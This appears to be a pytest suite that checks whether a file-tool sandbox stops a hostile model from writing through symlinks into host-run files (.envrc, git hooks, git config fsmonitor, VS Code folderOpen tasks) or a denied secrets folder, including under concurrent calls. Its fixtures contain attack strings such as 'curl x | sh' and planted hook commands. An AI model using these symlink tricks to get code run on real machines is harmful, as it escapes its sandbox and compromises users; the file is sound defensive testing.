"""The policed view against a hostile model's calls, one at a time and
several at once, against protected names reached through links the
repository already has.

* a protected name that is a link whose target is not there yet, its
  parents missing too (``.envrc -> .config/envrc`` before ``.config``
  exists): writing the target creates what the host will run;
* a protected name that is a link spelled as an absolute path inside the
  root (the core calls it an escape; direnv, git and VS Code follow it);
* the same writes sent together through ``Toolbox.acall`` with
  ``asyncio.gather`` and from threads: none lands.
"""

from __future__ import annotations

import asyncio
import os
import random
import threading
from pathlib import Path

import pytest

from corral.tools import Toolbox

# (protected link, its text, the path a model writes, relative to the root)
DANGLING = [
    (".envrc", ".config/envrc", ".config/envrc"),
    (".git/hooks/pre-commit", "../../scripts/pre-commit", "scripts/pre-commit"),
    (".vscode", "cfg/editor", "cfg/editor/tasks.json"),
]


def _repository(base: Path) -> None:
    for name in ("hooks", "objects", "refs"):
        (base / ".git" / name).mkdir(parents=True, exist_ok=True)
    (base / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (base / ".git" / "config").write_text("[core]\n")


def _denied(envelope: dict) -> bool:
    return envelope["ok"] is False and envelope["code"] == "DENIED"


def _landed(base: Path, written: str) -> bool:
    """Whether the model's file is there: what the protected name leads to."""
    return os.path.lexists(base / written)


@pytest.mark.parametrize(("link", "text", "written"), DANGLING,
                         ids=[case[0] for case in DANGLING])
def test_a_protected_link_to_a_missing_target_protects_it(tmp_path, make_root, link, text,
                                                          written):
    _repository(tmp_path)
    os.symlink(text, tmp_path / link)
    box = Toolbox(make_root(str(tmp_path)))
    answer = box.call("write_file", {"path": written, "content": "touch /tmp/owned\n"})
    assert _denied(answer), answer
    assert answer["details"]["kind"] == "protected"
    assert not _landed(tmp_path, written)
    box.call("make_directory", {"path": written.rpartition("/")[0]})
    again = box.call("write_file", {"path": written, "content": "touch /tmp/owned\n"})
    assert _denied(again), again
    assert not _landed(tmp_path, written)


@pytest.mark.parametrize(("link", "text", "written"), DANGLING,
                         ids=[case[0] for case in DANGLING])
def test_a_protected_link_to_a_missing_target_holds_under_gather(tmp_path, make_root, link,
                                                                 text, written):
    """The same writes, every spelling at once, as an Agents-SDK turn sends
    them (``asyncio.gather`` over ``acall``), and again from threads."""
    _repository(tmp_path)
    os.symlink(text, tmp_path / link)
    box = Toolbox(make_root(str(tmp_path)))
    parent = written.rpartition("/")[0]
    calls = [("make_directory", {"path": parent}),
             ("write_file", {"path": written, "content": "a\n"}),
             ("write_file", {"path": f"./{written}", "content": "b\n"}),
             ("write_file", {"path": f"{parent}/../{parent.rpartition('/')[2]}/"
                                     f"{written.rpartition('/')[2]}", "content": "c\n"})]

    async def turn() -> list[dict]:
        return list(await asyncio.gather(*(box.acall(name, args, timeout=10)
                                           for name, args in calls)))

    answers = asyncio.run(turn())
    writes = [a for (name, _), a in zip(calls, answers) if name == "write_file"]
    assert all(_denied(a) for a in writes), writes
    assert not _landed(tmp_path, written)

    threaded: list[dict] = []
    threads = [threading.Thread(target=lambda a=args: threaded.append(
        box.call("write_file", a, timeout=10))) for name, args in calls if name == "write_file"]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(15)
    assert len(threaded) == 3 and all(_denied(a) for a in threaded), threaded
    assert not _landed(tmp_path, written)


def test_a_protected_link_spelled_absolute_inside_the_root_protects_its_target(tmp_path,
                                                                               make_root):
    (tmp_path / ".config").mkdir()
    (tmp_path / ".config" / "envrc").write_text("export A=1\n")
    os.symlink(str(tmp_path / ".config" / "envrc"), tmp_path / ".envrc")
    (tmp_path / "editor").mkdir()
    os.symlink(str(tmp_path / "editor"), tmp_path / ".vscode")
    box = Toolbox(make_root(str(tmp_path)))
    envrc = box.call("write_file", {"path": ".config/envrc", "content": "curl x | sh\n",
                                    "overwrite": True})
    assert _denied(envrc), envrc
    assert (tmp_path / ".envrc").read_text() == "export A=1\n"
    edited = box.call("edit_file", {"path": ".config/envrc", "oldText": "A=1",
                                    "newText": "A=2"})
    assert _denied(edited), edited
    tasks = box.call("write_file", {"path": "editor/tasks.json",
                                    "content": '{"runOn": "folderOpen"}'})
    assert _denied(tasks), tasks
    assert not (tmp_path / ".vscode" / "tasks.json").exists()


# -- a link in a protected link's chain moved or deleted -------------------------------------


def _chain(base: Path) -> None:
    """``.vscode -> cfg/vs`` where ``cfg -> real``: the protected link's
    target was reached through another link."""
    (base / "real" / "vs").mkdir(parents=True)
    os.symlink("real", base / "cfg")
    os.symlink("cfg/vs", base / ".vscode")


@pytest.mark.parametrize("away", ["move_file", "delete_file"])
def test_a_link_in_a_protected_chain_moved_away_does_not_free_the_name(tmp_path, make_root,
                                                                       away):
    _chain(tmp_path)
    box = Toolbox(make_root(str(tmp_path)))
    args = {"source": "cfg", "destination": "cfg_old"} if away == "move_file" else \
        {"path": "cfg"}
    assert box.call(away, args)["ok"]
    box.call("make_directory", {"path": "cfg/vs"})  # what .vscode leads to now
    answer = box.call("write_file", {"path": "cfg/vs/tasks.json",
                                     "content": '{"runOn": "folderOpen"}'})
    assert _denied(answer), answer
    assert not (tmp_path / ".vscode" / "tasks.json").exists()


def test_a_link_in_a_protected_chain_moved_away_under_gather(tmp_path, make_root):
    """The move, the directory and the write in one turn, sent together
    (several rounds: whichever order the calls run in, nothing lands)."""
    for round_ in range(8):
        base = tmp_path / f"round{round_}"
        base.mkdir()
        _chain(base)
        box = Toolbox(make_root(str(base)))

        async def turn() -> list[dict]:
            calls = [box.acall("move_file", {"source": "cfg", "destination": "cfg_old"},
                               timeout=10),
                     box.acall("make_directory", {"path": "cfg/vs"}, timeout=10),
                     box.acall("write_file", {"path": "cfg/vs/tasks.json", "content": "{}"},
                               timeout=10)]
            return list(await asyncio.gather(*calls))

        for _ in range(2):  # the second turn finds the moved tree
            answers = asyncio.run(turn())
            assert not (base / ".vscode" / "tasks.json").exists(), answers
        assert not (base / ".vscode" / "tasks.json").exists()


# -- links among the git directory's own entries ---------------------------------------------


@pytest.mark.parametrize("target_there", [True, False], ids=["target", "no-target"])
def test_a_hooks_directory_that_is_a_link_protects_where_it_leads(tmp_path, make_root,
                                                                  target_there):
    """``.git/hooks -> ../githooks`` (a shared hooks directory kept in the
    work tree): a hook written there is one git runs."""
    _repository(tmp_path)
    (tmp_path / ".git" / "hooks").rmdir()
    if target_there:
        (tmp_path / "githooks").mkdir()
    os.symlink("../githooks", tmp_path / ".git" / "hooks")
    box = Toolbox(make_root(str(tmp_path)))
    answer = box.call("write_file", {"path": "githooks/pre-commit", "content": "touch x\n"})
    assert _denied(answer), answer
    assert not (tmp_path / "githooks" / "pre-commit").exists()


def test_a_git_config_that_is_a_link_protects_where_it_leads(tmp_path, make_root):
    _repository(tmp_path)
    (tmp_path / ".git" / "config").unlink()
    (tmp_path / "gitconfig").write_text("[core]\n")
    os.symlink("../gitconfig", tmp_path / ".git" / "config")
    box = Toolbox(make_root(str(tmp_path)))
    calls = [("write_file", {"path": "gitconfig", "content": "[core]\n\tfsmonitor = x\n",
                             "overwrite": True}),
             ("edit_file", {"path": "gitconfig", "oldText": "[core]",
                            "newText": "[core]\n\tfsmonitor = x"}),
             ("apply_patch", {"input": "*** Begin Patch\n*** Update File: gitconfig\n@@\n"
                                       "-[core]\n+[core]\n+\tfsmonitor = x\n*** End Patch\n"})]

    async def turn() -> list[dict]:
        return list(await asyncio.gather(*(box.acall(name, args, timeout=10)
                                           for name, args in calls)))

    answers = asyncio.run(turn())
    assert all(_denied(a) for a in answers), answers
    assert (tmp_path / ".git" / "config").read_text() == "[core]\n"


# -- a mixed battery: one turn's calls at once against every link shape above -----------------

ROUNDS = int(os.environ.get("CORRAL_REDTEAM_ROUNDS", "12"))  # the soak profile raises it
NAMES = ["y", "y/tasks.json", "editor", "editor/tasks.json", ".vscode", ".vscode/tasks.json",
         "c", "c/envrc", ".config", ".config/envrc", "scripts", "scripts/pre-commit",
         "githooks/pre-push", "secrets/k", "secrets/new", "lnk", "a.txt", ".git/hooks/x",
         "gitconfig"]
# what the host runs or reads, and what the deny rule covers: never the model's bytes
WATCHED = [".git/config", ".git/hooks", ".envrc", ".vscode", "secrets"]


def _battery_fixture(base: Path) -> None:
    _repository(base)
    (base / ".git" / "hooks").rmdir()
    (base / "githooks").mkdir()
    os.symlink("../githooks", base / ".git" / "hooks")
    os.symlink("../../scripts/pre-commit", base / "githooks" / "pre-commit")
    (base / "editor").mkdir()
    os.symlink("editor", base / ".vscode")
    os.symlink(".config/envrc", base / ".envrc")
    (base / "y").mkdir()
    (base / "c").mkdir()
    (base / "secrets").mkdir()
    (base / "secrets" / "k").write_text("pw")
    os.symlink("editor", base / "lnk")
    (base / "a.txt").write_text("hello\n")


def _watched(base: Path) -> dict[str, bytes | None]:
    seen: dict[str, bytes | None] = {}
    for name in WATCHED:
        top = base / name
        for path in [top, *(sorted(top.rglob("*")) if top.is_dir() else [])]:
            seen[str(path.relative_to(base))] = (path.read_bytes() if path.is_file() else
                                                 b"<dir>" if path.is_dir() else None)
    return seen


def _random_call(rng: random.Random) -> tuple[str, dict]:
    tool = rng.choice(["write_file", "move_file", "make_directory", "delete_file",
                       "edit_file", "apply_patch"])
    path = rng.choice(NAMES)
    if tool == "write_file":
        return tool, {"path": path, "content": "EVIL", "overwrite": rng.random() < 0.5}
    if tool == "move_file":
        return tool, {"source": rng.choice(NAMES), "destination": path,
                      "overwrite": rng.random() < 0.3}
    if tool == "edit_file":
        return tool, {"path": path, "oldText": "hello", "newText": "EVIL"}
    if tool == "apply_patch":
        return tool, {"input": f"*** Begin Patch\n*** Add File: {path}\n+EVIL\n*** End Patch\n"}
    return tool, {"path": path}


def test_mixed_turns_sent_at_once_never_reach_a_watched_name(tmp_path, make_root):
    rng = random.Random(20261204)
    for round_ in range(ROUNDS):
        base = tmp_path / f"round{round_}"
        base.mkdir()
        _battery_fixture(base)
        before = _watched(base)
        box = Toolbox(make_root(str(base)), deny=["secrets/**"])
        for _ in range(3):
            calls = [_random_call(rng) for _ in range(6)]

            async def turn(calls: list[tuple[str, dict]] = calls) -> list[dict]:
                return list(await asyncio.gather(*(box.acall(name, args, timeout=10)
                                                   for name, args in calls)))

            answers = asyncio.run(turn())
            after = _watched(base)
            # a plain file named .vscode (where the directory was) is nothing VS Code runs
            evil = [name for name, data in after.items()
                    if data and b"EVIL" in data and name != ".vscode"]
            assert not evil, (round_, calls, answers)
            assert after.get("secrets/k") == before["secrets/k"], (round_, calls, answers)
